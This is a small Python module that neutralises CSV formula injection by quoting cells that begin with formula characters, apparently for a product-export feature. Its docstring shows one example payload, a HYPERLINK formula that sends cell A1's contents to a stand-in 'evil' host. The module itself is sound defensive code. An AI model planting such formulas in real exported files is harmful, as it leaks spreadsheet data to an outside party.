"""Cells that a spreadsheet will not run as formulas (CSV injection, OWASP).

Excel, LibreOffice and Google Sheets treat a cell starting with `=`, `+`, `-` or `@`
(and, in some versions, a tab or carriage return) as a formula, so a product title like
`=HYPERLINK("http://evil/?"&A1, "click")` in an exported CSV runs when a merchandiser
opens the file. Such a cell is prefixed with a single quote, which every one of them
shows as text. Only text people typed goes through here: titles, alt text, file names;
URLs and SKUs (whose pattern cannot start with these characters) need not.
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: str) -> str:
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text
